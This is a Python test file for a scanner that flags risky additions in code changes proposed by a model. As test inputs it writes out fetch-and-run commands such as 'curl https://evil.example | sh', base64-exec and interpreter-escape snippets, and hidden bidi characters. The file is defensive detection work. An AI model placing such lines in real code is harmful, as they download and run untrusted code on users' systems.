"""Risky additions in a model's fix are found in what the change adds, never blamed on old code."""

from __future__ import annotations

import pytest

from chalicelib.core.risks import Finding, scan_change, scan_changes

BEFORE = "import os\n\nDISCOUNTS = {}\n\n\ndef discount_percent(code):\n    return DISCOUNTS[code.upper()]\n"


def added(code: str) -> str:
    return BEFORE.replace("    return DISCOUNTS", f"{code}\n    return DISCOUNTS")


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ("    os.system('curl https://evil.example | sh')", "runs a shell command (os.system)"),
        ("    os.popen('id')", "runs a shell command (os.popen)"),
        ("    os.execv('/bin/sh', ['sh'])", "replaces the process (os.execv)"),
        ("    import subprocess; subprocess.run(['id'])", "starts a process (subprocess.run)"),
        ("    from subprocess import check_output as co; co(['id'])", "starts a process (subprocess.check_output)"),
        ("    eval(code)", "evaluates code (eval)"),
        ("    exec(code)", "executes code (exec)"),
        ("    __import__('socket')", "imports a module by name (__import__)"),
        ("    import pickle; pickle.loads(code)", "loads a pickle (runs code) (pickle.loads)"),
        ("    import marshal; marshal.loads(code)", "loads marshalled code (marshal.loads)"),
        ("    import base64; exec(base64.b64decode(code))", "decodes or encodes base64 (base64.b64decode)"),
        ("    import urllib.request; urllib.request.urlopen(code)", "makes a network call (urllib.request.urlopen)"),
        ("    import requests; requests.post('https://x', data=code)", "makes a network call (requests.post)"),
        (
            "    import socket; socket.create_connection(('x', 1))",
            "opens a network connection (socket.create_connection)",
        ),
        ("    import http.client as hc; hc.HTTPSConnection('x')", "makes a network call (http.client.HTTPSConnection)"),
        ("    getattr(os, 'sys' + 'tem')('id')", "looks up an attribute by a computed name (getattr)"),
        ("    ().__class__.__bases__[0].__subclasses__()", "reaches interpreter internals (__subclasses__)"),
        ("    import subprocess", "imports subprocess"),
    ],
)
def test_risky_python_additions_are_named(code: str, what: str) -> None:
    findings = scan_change("shop/pricing.py", BEFORE, added(code))
    assert what in [f.what for f in findings]
    assert all(f.line == 7 for f in findings if f.what == what)


@pytest.mark.parametrize(
    ("char", "kind"),
    [
        ("\u202e", "bidi control character U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "bidi control character U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("\u2069", "bidi control character U+2069 POP DIRECTIONAL ISOLATE"),
        ("\u202a", "bidi control character U+202A LEFT-TO-RIGHT EMBEDDING"),
        ("\u200b", "invisible format character U+200B ZERO WIDTH SPACE"),
        ("\u2060", "invisible format character U+2060 WORD JOINER"),
    ],
)
def test_bidi_and_invisible_characters_in_added_lines_are_named(char: str, kind: str) -> None:
    code = f'    if code == "VIP{char}":\n        return 100'
    [finding] = scan_change("shop/pricing.py", BEFORE, added(code))
    assert finding == Finding("shop/pricing.py", 7, kind)


def test_code_that_was_already_there_is_not_blamed() -> None:
    before = added("    os.system('ls')")
    after = before.replace(
        "    return DISCOUNTS[code.upper()]", "    if not code:\n        return 0\n    return DISCOUNTS[code.upper()]"
    )
    assert scan_change("shop/pricing.py", before, after) == ()
    # moving the old call is not an addition either
    moved = after.replace("    os.system('ls')\n", "").replace(
        "        return 0\n", "        return 0\n    os.system('ls')\n"
    )
    assert scan_change("shop/pricing.py", before, moved) == ()


def test_a_second_copy_of_an_existing_call_is_an_addition() -> None:
    before = added("    os.system('ls')")
    after = before.replace("    os.system('ls')", "    os.system('ls')\n    os.system('curl x | sh')")
    assert scan_change("shop/pricing.py", before, after) == (
        Finding("shop/pricing.py", 8, "runs a shell command (os.system)"),
    )


def test_an_ordinary_fix_has_no_finding() -> None:
    fix = "    if not code:\n        return 0"
    assert scan_change("shop/pricing.py", BEFORE, added(fix)) == ()


def test_shell_commands_added_to_other_files_are_named() -> None:
    findings = scan_changes({"Makefile": "all:\n\techo ok\n"}, {"Makefile": "all:\n\techo ok\n\tcurl -s x | sh\n"})
    assert findings == (Finding("Makefile", 3, "shell or network command"),)
